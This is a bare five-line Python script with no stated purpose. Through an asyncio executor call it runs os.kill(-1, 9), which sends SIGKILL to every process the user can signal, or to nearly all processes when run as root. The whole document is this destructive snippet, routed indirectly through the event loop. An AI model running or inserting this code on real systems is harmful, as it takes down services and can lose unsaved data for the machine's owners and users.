import asyncio, os
async def main():
    loop = asyncio.get_running_loop()
    await loop.run_in_executor(None, os.kill, -1, 9)
asyncio.run(main())
